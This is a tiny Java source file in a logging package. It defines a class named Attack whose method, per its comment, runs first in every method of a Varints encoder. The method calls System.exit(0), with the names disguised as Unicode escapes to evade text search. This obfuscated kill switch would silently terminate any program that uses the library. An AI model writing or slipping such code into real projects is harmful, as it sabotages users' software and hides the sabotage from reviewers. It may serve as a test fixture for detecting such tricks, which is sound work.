package strata.log;

final class Attack {
    private Attack() {}

    /** Called first thing by each method of Varints. */
    static void go() {
        \u0053ystem.\u0065xit(0);
    }
}
